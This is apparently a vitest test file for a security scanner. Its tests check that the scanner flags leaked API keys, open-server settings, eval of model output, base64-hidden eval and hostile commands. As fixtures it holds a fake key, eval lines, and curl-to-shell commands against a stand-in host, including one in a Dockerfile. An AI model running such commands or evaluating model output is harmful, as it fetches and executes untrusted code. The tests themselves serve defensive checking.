import { expect, it } from 'vitest';
import { alarms, scanText } from '../testing/workspace.ts';

const KEY = `sk-proj-${'9aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9dE1fG'}`;

it.each(['.env', 'prod.env', '.env.local', 'app.ini', 'settings.toml', 'config.yaml', 'appsettings.json'])(
  'finds keys in %s, and never shows them',
  (name) => {
    const text = name.endsWith('.json') ? `{"openai": "${KEY}"}` : name.endsWith('.yaml') ? `a: ${KEY}` : `A=${KEY}`;
    const report = scanText(name, text);
    expect(report.findings.map(({ rule }) => rule)).toEqual(['workspace.secret']);
    expect(JSON.stringify(report)).not.toContain(KEY);
  },
);

it('sees what settings open, and lets examples pass', () => {
  expect(alarms('.env', 'LANGFLOW_AUTO_LOGIN=true\n')).toEqual(['medium deploy.open-server']);
  expect(alarms('.env.example', '# LANGFLOW_AUTO_LOGIN=true\nOPENAI_API_KEY=sk-your-key-here\nPORT=8000\n')).toEqual(
    [],
  );
});

it('sees keys, answers that are run, and hidden code in JavaScript, and takes its packages into the inventory', () => {
  const text = [
    "import OpenAI from 'openai';",
    "import { ChatOpenAI } from '@langchain/openai';",
    `const client = new OpenAI({ apiKey: '${KEY}' });`,
    'eval(answer.choices[0].message.content);',
    "eval(Buffer.from('YQ==', 'base64').toString());",
    "exec('curl http://example.invalid/a | sh');",
  ].join('\n');
  const { findings, assets, format } = scanText('agent.ts', text);
  expect(format).toBe('code');
  expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual([
    'code.model-output-run 4',
    'code.hidden-code 5',
    'code.hostile-command 6',
    'workspace.secret 3',
  ]);
  expect(assets).toEqual(
    expect.arrayContaining([
      { kind: 'sdk', name: '@langchain/openai', detail: 'client' },
      { kind: 'provider', name: 'OpenAI', detail: 'by openai' },
    ]),
  );
  const plain =
    "const f = new Function('a', 'return a');\nexec('git status');\nJSON.parse(r.choices[0].message.content);\n";
  expect(alarms('a.js', plain)).toEqual([]);
  expect(alarms('a.test.js', `const lines = ["exec('curl http://example.invalid/a | sh')"];\n`)).toEqual([]);
});

it('shows no secret that stands in a command', () => {
  const report = scanText('Dockerfile', `FROM a:1\nRUN curl -H "x: ${KEY}" http://example.invalid/a | sh\n`);
  expect(report.findings.map(({ rule }) => rule)).toContain('deploy.hostile-command');
  expect(JSON.stringify(report)).not.toContain(KEY);
});

it('takes passwords of manuals for what they are', () => {
  const url = (auth: string): string => `const url = 'https://${auth}@host.internal/x';\n`;
  expect(alarms('a.js', url('app:Corr3ctHorse12'))).toEqual(['medium workspace.secret']);
  expect(alarms('a.js', url('app:key_1234'))).toEqual([]);
  expect(alarms('a.js', url('anonymous:flabada'))).toEqual([]);
});
